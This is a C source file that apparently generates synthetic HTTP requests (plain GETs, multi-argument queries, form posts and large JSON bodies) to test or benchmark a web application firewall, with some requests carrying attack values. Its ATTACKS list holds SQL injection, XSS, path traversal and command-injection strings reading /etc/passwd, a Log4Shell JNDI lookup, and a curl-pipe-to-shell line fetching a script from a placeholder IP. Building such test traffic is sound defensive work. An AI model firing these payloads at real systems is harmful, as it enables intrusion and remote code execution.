#include "shapes.h"

#include <string.h>

static const char *const NAMES[SHAPE_COUNT] = {
    "get", "get5", "form", "json", "get-match", "get5-match", "form-match", "json-match", "attack"};

const char *shape_name(shape_t shape)
{
    return NAMES[shape];
}

bool shape_find(const char *name, shape_t *ret_shape)
{
    for (unsigned i = 0; i < SHAPE_COUNT; i++) {
        if (strcmp(NAMES[i], name) == 0) {
            *ret_shape = (shape_t)i;
            return true;
        }
    }
    return false;
}

/* xorshift64* */
static uint64_t draw(uint64_t *seed)
{
    uint64_t x = *seed;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    *seed = x;
    return x * UINT64_C(2685821657736338717);
}

static uint64_t below(uint64_t *seed, uint64_t n)
{
    return (draw(seed) >> 11) % n;
}

/* A word of syllables, which spells nothing: no rule of any paranoia level is about it. */
static void word_put(uint64_t *seed, size_t letters, buf_t *out)
{
    static const char ONE[] = "bdfgkmnprtv", TWO[] = "aiou";
    for (size_t i = 0; i < letters; i++) {
        buf_u8(out, (uint8_t)(i % 2 == 0 ? ONE[below(seed, sizeof ONE - 1)]
                                         : TWO[below(seed, sizeof TWO - 1)]));
    }
}

static void number_put(uint64_t *seed, size_t digits, buf_t *out)
{
    for (size_t i = 0; i < digits; i++) {
        buf_u8(out, (uint8_t)('0' + (i ? below(seed, 10) : 1 + below(seed, 9))));
    }
}

/* What an attack's value may be; kinds that every rule set knows. {} is replaced by fresh digits so
 * that no two are the same. */
static const char *const ATTACKS[] = {
    "{}' or '{}'='{}",
    "{} union select null,{},version()--",
    "<script>alert({})</script>",
    "\"><img src=x onerror=alert({})>",
    "../../../../../../etc/passwd{}",
    ";cat /etc/passwd;echo {}",
    "$(curl http://198.51.100.7/{}.sh|sh)",
    "{}; exec xp_cmdshell 'dir {}'--",
    "<?php system('id{}'); ?>",
    "${jndi:ldap://198.51.100.7/{}}",
};

static void attack_put(uint64_t *seed, buf_t *out)
{
    for (const char *p = ATTACKS[below(seed, BASE_COUNT(ATTACKS))]; *p; p++) {
        if (p[0] == '{' && p[1] == '}') {
            number_put(seed, 3, out);
            p++;
        } else {
            buf_u8(out, (uint8_t)*p);
        }
    }
}

/* In a query or a form everything but letters and digits is percent-encoded. */
static void encoded_put(slice_t raw, buf_t *out)
{
    static const char HEX[] = "0123456789ABCDEF";
    for (size_t i = 0; i < raw.len; i++) {
        uint8_t c = raw.ptr[i];
        bool plain = (c >= '0' && c <= '9') || ((c | 0x20) >= 'a' && (c | 0x20) <= 'z');
        if (plain) {
            buf_u8(out, c);
        } else {
            buf_u8(out, '%');
            buf_u8(out, (uint8_t)HEX[c >> 4]);
            buf_u8(out, (uint8_t)HEX[c & 15]);
        }
    }
}

/* In a JSON string. */
static void quoted_put(slice_t raw, buf_t *out)
{
    for (size_t i = 0; i < raw.len; i++) {
        if (raw.ptr[i] == '"' || raw.ptr[i] == '\\') {
            buf_u8(out, '\\');
        }
        buf_u8(out, raw.ptr[i]);
    }
}

static void value_put(uint64_t *seed, size_t letters, bool attacks, bool is_json, buf_t *out)
{
    if (!attacks) {
        word_put(seed, letters, out);
        return;
    }
    uint8_t mem[256];
    buf_t raw = BUF_ON_ARRAY(mem);
    attack_put(seed, &raw);
    if (is_json) {
        quoted_put(buf_slice(&raw), out);
    } else {
        encoded_put(buf_slice(&raw), out);
    }
}

static void body_put(const char *type, slice_t body, buf_t *out)
{
    buf_cstr(out, "Content-Type: ");
    buf_cstr(out, type);
    buf_cstr(out, "\r\nContent-Length: ");
    buf_dec(out, (int64_t)body.len);
    buf_cstr(out, "\r\n\r\n");
    buf_put(out, body);
}

static const char PLAIN_HEADERS[] = "Host: guard.example\r\n"
                                    "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\n"
                                    "Accept: text/html,application/json\r\n";

static void get_put(uint64_t *seed, bool attacks, buf_t *out)
{
    buf_cstr(out, "GET /");
    word_put(seed, 8, out);
    if (attacks) {
        buf_cstr(out, "?q=");
        value_put(seed, 0, true, false, out);
    }
    buf_cstr(out, " HTTP/1.1\r\n");
    buf_cstr(out, PLAIN_HEADERS);
    buf_cstr(out, "\r\n");
}

static void get5_put(uint64_t *seed, int attacked, buf_t *out)
{
    static const char *const ARGS[] = {"place", "from", "month", "price", "order"};
    static const char *const COOKIES[] = {"lang", "seen", "basket", "visit", "shade"};
    buf_cstr(out, "GET /tours");
    for (int i = 0; i < 5; i++) {
        buf_cstr(out, i ? "&" : "?");
        buf_cstr(out, ARGS[i]);
        buf_cstr(out, "=");
        value_put(seed, 5 + below(seed, 6), i == attacked, false, out);
    }
    buf_cstr(out, " HTTP/1.1\r\nHost: guard.example\r\n"
                  "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 "
                  "Firefox/128.0\r\n"
                  "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
                  "Accept-Language: ja,en;q=0.7\r\nAccept-Encoding: gzip, deflate\r\n"
                  "Referer: http://guard.example/tours\r\nCookie: ");
    for (int i = 0; i < 5; i++) {
        buf_cstr(out, i ? "; " : "");
        buf_cstr(out, COOKIES[i]);
        buf_cstr(out, "=");
        word_put(seed, 9, out);
    }
    buf_cstr(out, "\r\n\r\n");
}

static void form_put(uint64_t *seed, int attacked, buf_t *out)
{
    uint8_t mem[8192];
    buf_t body = BUF_ON_ARRAY(mem);
    for (int i = 0; i < 20; i++) {
        buf_cstr(&body, i ? "&field" : "field");
        buf_dec(&body, i);
        buf_cstr(&body, "=");
        if (i == attacked) {
            value_put(seed, 0, true, false, &body);
            continue;
        }
        for (int w = 0; w < 9; w++) { /* some 90 bytes of words */
            buf_cstr(&body, w ? "+" : "");
            word_put(seed, 5 + below(seed, 9), &body);
        }
    }
    buf_cstr(out, "POST /book HTTP/1.1\r\n");
    buf_cstr(out, PLAIN_HEADERS);
    body_put("application/x-www-form-urlencoded", buf_slice(&body), out);
}

/* One of the 87 objects: 7 leaves. */
static void object_put(uint64_t *seed, bool attacked, buf_t *body)
{
    buf_cstr(body, "{\"id\":");
    number_put(seed, 5, body);
    buf_cstr(body, ",\"name\":\"");
    value_put(seed, 10, attacked, true, body);
    buf_cstr(body, "\",\"kana\":\"");
    word_put(seed, 8, body);
    buf_cstr(body, "\",\"age\":");
    number_put(seed, 2, body);
    buf_cstr(body, ",\"room\":\"");
    word_put(seed, 6, body);
    buf_cstr(body, "\",\"seat\":\"");
    word_put(seed, 4, body);
    buf_cstr(body, "\",\"note\":\"");
    word_put(seed, 17, body);
    buf_cstr(body, "\"}");
}

static void json_put(uint64_t *seed, int attacked, buf_t *out)
{
    uint8_t mem[16384];
    buf_t body = BUF_ON_ARRAY(mem);
    buf_cstr(&body, "{\"items\":[");
    for (int i = 0; i < 87; i++) {
        buf_cstr(&body, i ? "," : "");
        object_put(seed, i == attacked, &body);
    }
    buf_cstr(&body, "]}");
    buf_cstr(out, "POST /api HTTP/1.1\r\n");
    buf_cstr(out, PLAIN_HEADERS);
    body_put("application/json", buf_slice(&body), out);
}

void shape_put(shape_t shape, uint64_t *seed, buf_t *out)
{
    switch (shape) {
    case SHAPE_GET:
    case SHAPE_GET_MATCH:
        get_put(seed, shape == SHAPE_GET_MATCH, out);
        break;
    case SHAPE_GET5:
    case SHAPE_GET5_MATCH:
        get5_put(seed, shape == SHAPE_GET5_MATCH ? (int)below(seed, 5) : -1, out);
        break;
    case SHAPE_FORM:
    case SHAPE_FORM_MATCH:
        form_put(seed, shape == SHAPE_FORM_MATCH ? (int)below(seed, 20) : -1, out);
        break;
    case SHAPE_JSON:
    case SHAPE_JSON_MATCH:
        json_put(seed, shape == SHAPE_JSON_MATCH ? (int)below(seed, 87) : -1, out);
        break;
    case SHAPE_ATTACK:
    case SHAPE_COUNT:
    default:
        shape_put((shape_t)(SHAPE_GET_MATCH + below(seed, 4)), seed, out);
        break;
    }
}
